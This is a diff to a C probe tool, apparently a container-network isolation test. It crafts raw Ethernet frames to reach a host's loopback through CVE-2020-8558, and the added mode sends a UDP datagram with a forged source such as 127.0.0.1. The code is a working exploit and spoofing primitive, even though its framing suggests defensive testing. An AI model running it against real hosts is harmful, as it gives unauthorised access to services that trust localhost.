@@ -2,7 +2,9 @@
  * with an AF_PACKET socket (CAP_NET_RAW only, a default capability): Ethernet frames addressed to
  * GATEWAY's MAC, so DST may be 127.0.0.1 -- the host's loopback, which the route_localnet the
  * bridge needs for published ports would otherwise accept (CVE-2020-8558).  On a SYN-ACK it sends
- * "GET /secret" and prints "answered"; else "no answer".  Static, so it runs in a busybox image. */
+ * "GET /secret" and prints "answered"; else "no answer".
+ * `rawtcp GATEWAY DST PORT SRC`: one UDP datagram "spoofed" to DST:PORT from SRC (e.g. 127.0.0.1,
+ * which a host service may trust).  Static, so it runs in a busybox image. */
 #include <arpa/inet.h>
 #include <net/if.h>
 #include <netinet/in.h>
@@ -72,6 +74,29 @@ static void send_tcp(uint32_t seq, uint32_t ack, unsigned char flags, const char
     sendto(fd, f, 14 + 20 + tlen, 0, (struct sockaddr *)&to, sizeof to);
 }
 
+static void send_udp(const char *data) {
+    unsigned char f[14 + 20 + 8 + 64] = {0};
+    size_t ulen = 8 + strlen(data);
+    unsigned char *ip = f + 14, *udp = ip + 20;
+    memcpy(f, gwmac, 6);
+    memcpy(f + 6, mymac, 6);
+    put16(f + 12, 0x0800);
+    put16(udp, sport);
+    put16(udp + 2, dport);
+    put16(udp + 4, ulen);  /* checksum 0: none, allowed for UDP over IPv4 */
+    memcpy(udp + 8, data, strlen(data));
+    ip[0] = 0x45;
+    put16(ip + 2, 20 + ulen);
+    ip[8] = 64;
+    ip[9] = 17;
+    memcpy(ip + 12, &src, 4);
+    memcpy(ip + 16, &dst, 4);
+    put16(ip + 10, csum(ip, 20, 0));
+    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = ifindex, .sll_halen = 6};
+    memcpy(to.sll_addr, gwmac, 6);
+    sendto(fd, f, 14 + 20 + ulen, 0, (struct sockaddr *)&to, sizeof to);
+}
+
 /* The next segment from DST:PORT to us (1: got one, *seq and *flags set; 0: timeout). */
 static int recv_tcp(uint32_t *seq, unsigned char *flags) {
     unsigned char b[2048];
@@ -117,7 +142,7 @@ static int gateway_mac(const char *gw) {
 }
 
 int main(int argc, char **argv) {
-    if (argc != 4)
+    if (argc != 4 && argc != 5)
         return 2;
     srand(time(NULL) ^ getpid());
     inet_pton(AF_INET, argv[2], &dst);
@@ -140,6 +165,12 @@ int main(int argc, char **argv) {
         return perror("AF_PACKET"), 3;
     struct sockaddr_ll me = {.sll_family = AF_PACKET, .sll_protocol = htons(0x0800), .sll_ifindex = ifindex};
     bind(fd, (struct sockaddr *)&me, sizeof me);
+    if (argc == 5) {
+        inet_pton(AF_INET, argv[4], &src);
+        send_udp("spoofed\n");
+        puts("sent");
+        return 0;
+    }
     struct timeval tv = {.tv_sec = 2};
     setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
     uint32_t iss = rand(), seq;
